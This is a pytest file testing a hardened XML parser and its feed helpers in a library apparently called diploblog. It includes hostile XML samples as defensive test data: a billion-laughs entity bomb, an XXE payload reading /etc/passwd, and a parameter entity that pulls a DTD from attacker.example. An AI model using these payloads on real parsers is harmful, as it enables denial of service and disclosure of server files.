"""The hardened XML parser and the element helpers shared by the XML readers."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import pytest
from lxml import etree

from diploblog import Extension, ParseError, ReadWarning, UnsafeInputError
from diploblog._xml import (
    XML_LANG,
    clean_language,
    element_path,
    element_to_extension,
    extension_to_element,
    parse_xml,
    read_date,
)

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<rss version="2.0"><channel><title>&lol3;</title></channel></rss>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><title>&xxe;</title></channel></rss>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE rss [
  <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd">
  %remote;
]>
<rss version="2.0"><channel/></rss>"""


class TestParseXml:
    def test_reads_well_formed_document(self) -> None:
        root = parse_xml(b"<rss version='2.0'><channel><title>T</title></channel></rss>", where="f")
        assert root.tag == "rss"
        assert root.findtext("channel/title") == "T"

    def test_encoding_from_declaration(self) -> None:
        data = '<?xml version="1.0" encoding="ISO-8859-1"?><t>café</t>'.encode("latin-1")
        assert parse_xml(data, where="f").text == "café"

    def test_utf16_with_bom(self) -> None:
        data = '<?xml version="1.0" encoding="UTF-16"?><t>naïve</t>'.encode("utf-16")
        assert parse_xml(data, where="f").text == "naïve"

    @pytest.mark.parametrize("data", [b"", b"   \n\t "])
    def test_empty_is_parse_error(self, data: bytes) -> None:
        with pytest.raises(ParseError, match="empty") as info:
            parse_xml(data, where="feed.xml")
        assert info.value.where == "feed.xml"

    def test_syntax_error_has_line_and_column(self) -> None:
        data = b"<rss>\n<channel>\n<title>T</titel>\n</channel></rss>"
        with pytest.raises(ParseError) as info:
            parse_xml(data, where="feed.xml")
        error = info.value
        assert error.where == "feed.xml"
        assert error.line == 3
        assert error.column is not None
        assert error.column > 1
        assert "titel" in error.message

    def test_truncated_document(self) -> None:
        with pytest.raises(ParseError) as info:
            parse_xml(b"<rss><channel><title>T</title><item><title>cut", where="f")
        assert info.value.line == 1

    def test_undefined_html_entity_is_not_well_formed(self) -> None:
        with pytest.raises(ParseError, match="nbsp"):
            parse_xml(b"<rss><channel><title>a&nbsp;b</title></channel></rss>", where="f")


class TestUnsafeInput:
    def test_billion_laughs(self) -> None:
        with pytest.raises(UnsafeInputError, match="'lol'") as info:
            parse_xml(BILLION_LAUGHS, where="bomb.xml")
        assert info.value.where == "bomb.xml"
        assert info.value.line == 3

    def test_external_entity(self) -> None:
        with pytest.raises(UnsafeInputError, match="external entity 'xxe'") as info:
            parse_xml(XXE, where="xxe.xml")
        assert "file:///etc/passwd" in info.value.message
        assert info.value.where == "xxe.xml"

    def test_parameter_entity(self) -> None:
        with pytest.raises(UnsafeInputError, match="remote") as info:
            parse_xml(PARAMETER_ENTITY, where="pe.xml")
        assert info.value.line == 3

    def test_entity_declaration_in_utf16(self) -> None:
        data = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE t [<!ENTITY a "b">]><t>&a;</t>'
        with pytest.raises(UnsafeInputError):
            parse_xml(data.encode("utf-16"), where="f")

    def test_entity_declaration_after_prolog_comment(self) -> None:
        # A comment holding "<x" before the DOCTYPE hides it from the byte scan; the
        # check on the parsed DTD still refuses it.
        data = b'<!-- <x> --><!DOCTYPE t [<!ENTITY a "b">]><t>&a;</t>'
        with pytest.raises(UnsafeInputError):
            parse_xml(data, where="f")

    def test_plain_doctype_is_allowed_and_not_loaded(self, tmp_path: Path) -> None:
        dtd = tmp_path / "evil.dtd"
        dtd.write_text('<!ENTITY secret "loaded">', encoding="utf-8")
        data = (
            f'<?xml version="1.0"?><!DOCTYPE rss SYSTEM "{dtd.as_uri()}">'
            "<rss><channel><title>T</title></channel></rss>"
        ).encode()
        root = parse_xml(data, where="f")
        assert root.findtext("channel/title") == "T"

    def test_external_dtd_entities_are_never_expanded(self, tmp_path: Path) -> None:
        dtd = tmp_path / "evil.dtd"
        dtd.write_text('<!ENTITY secret "loaded">', encoding="utf-8")
        data = (
            f'<?xml version="1.0"?><!DOCTYPE rss SYSTEM "{dtd.as_uri()}">'
            "<rss><channel><title>&secret;</title></channel></rss>"
        ).encode()
        try:
            root = parse_xml(data, where="f")
        except ParseError:
            return  # refused as not well-formed: also safe
        assert "loaded" not in etree.tostring(root, encoding="unicode")

    def test_network_dtd_is_not_fetched(self) -> None:
        data = (
            b'<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"\n'
            b' "http://my.netscape.com/publish/formats/rss-0.91.dtd">\n'
            b"<rss version='0.91'><channel><title>Caf&#233;</title></channel></rss>"
        )
        assert parse_xml(data, where="f").findtext("channel/title") == "Café"


class TestExtensions:
    SOURCE = (
        b'<media:group xmlns:media="http://search.yahoo.com/mrss/" '
        b'xmlns:x="urn:x" x:flag="1" b="2">\n'
        b'  <media:content url="https://example.org/a.mp3" medium="audio"/>\n'
        b"  <media:title> Spaced  title </media:title>\n"
        b"</media:group>"
    )

    def test_element_to_extension(self) -> None:
        ext = element_to_extension(etree.fromstring(self.SOURCE))
        assert ext.namespace == "http://search.yahoo.com/mrss/"
        assert ext.name == "group"
        assert ext.attributes == (("b", "2"), ("{urn:x}flag", "1"))
        assert ext.text is None  # layout white space between children is dropped
        assert [c.name for c in ext.children] == ["content", "title"]
        assert ext.children[0].attributes == (
            ("medium", "audio"),
            ("url", "https://example.org/a.mp3"),
        )
        assert ext.children[1].text == " Spaced  title "  # leaf text kept as written

    def test_round_trip(self) -> None:
        ext = element_to_extension(etree.fromstring(self.SOURCE))
        assert element_to_extension(extension_to_element(ext)) == ext

    def test_no_namespace(self) -> None:
        ext = element_to_extension(etree.fromstring(b"<ttl>60</ttl>"))
        assert ext == Extension(namespace="", name="ttl", text="60")
        assert extension_to_element(ext).tag == "ttl"

    def test_comments_are_skipped(self) -> None:
        ext = element_to_extension(etree.fromstring(b"<a><!-- c --><b/></a>"))
        assert [c.name for c in ext.children] == ["b"]

    def test_xml_lang_kept_in_clark_notation(self) -> None:
        ext = element_to_extension(etree.fromstring(b'<a xml:lang="fr">x</a>'))
        assert ext.attributes == ((XML_LANG, "fr"),)


class TestElementPath:
    def test_positions_only_for_repeated_names(self) -> None:
        root = etree.fromstring(
            b"<rss><channel><title/><item/><item/><item><pubDate/></item></channel></rss>"
        )
        assert element_path(root[0][3][0]) == "/rss/channel/item[3]/pubDate"
        assert element_path(root[0][0]) == "/rss/channel/title"

    def test_prefixes(self) -> None:
        root = etree.fromstring(
            b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" '
            b'xmlns:dc="http://purl.org/dc/elements/1.1/"><item><dc:date/></item></rdf:RDF>'
        )
        assert element_path(root[0][0]) == "/rdf:RDF/item/dc:date"


class TestLanguage:
    @pytest.mark.parametrize(
        ("written", "expected"),
        [("en", "en"), ("en_US", "en-US"), (" en-gb ", "en-gb"), ("", None), (None, None)],
    )
    def test_normalised(self, written: str | None, expected: str | None) -> None:
        assert clean_language(written) == expected

    @pytest.mark.parametrize("written", ["english please", "en--us", "12"])
    def test_invalid(self, written: str) -> None:
        with pytest.raises(ValueError, match="not a language tag"):
            clean_language(written)


class TestReadDate:
    def test_keeps_offset(self) -> None:
        found: list[ReadWarning] = []
        value = read_date(etree.fromstring(b"<d>2010-07-20T14:05:00-04:00</d>"), found)
        assert value == dt.datetime(2010, 7, 20, 18, 5, tzinfo=dt.timezone.utc)
        assert value is not None
        assert value.utcoffset() == dt.timedelta(hours=-4)
        assert found == []

    def test_no_zone_is_utc_with_warning(self) -> None:
        found: list[ReadWarning] = []
        value = read_date(etree.fromstring(b"<d>2010-07-20T14:05:00</d>"), found)
        assert value == dt.datetime(2010, 7, 20, 14, 5, tzinfo=dt.timezone.utc)
        assert len(found) == 1
        assert "no time zone" in found[0].message
        assert found[0].where == "/d"

    def test_unreadable(self) -> None:
        found: list[ReadWarning] = []
        root = etree.fromstring(b"<item><pubDate>next Tuesday-ish</pubDate></item>")
        assert read_date(root[0], found) is None
        assert found[0].where == "/item/pubDate"
        assert "unreadable date" in found[0].message

    def test_empty(self) -> None:
        found: list[ReadWarning] = []
        assert read_date(etree.fromstring(b"<d> </d>"), found) is None
        assert found[0].message == "empty date"
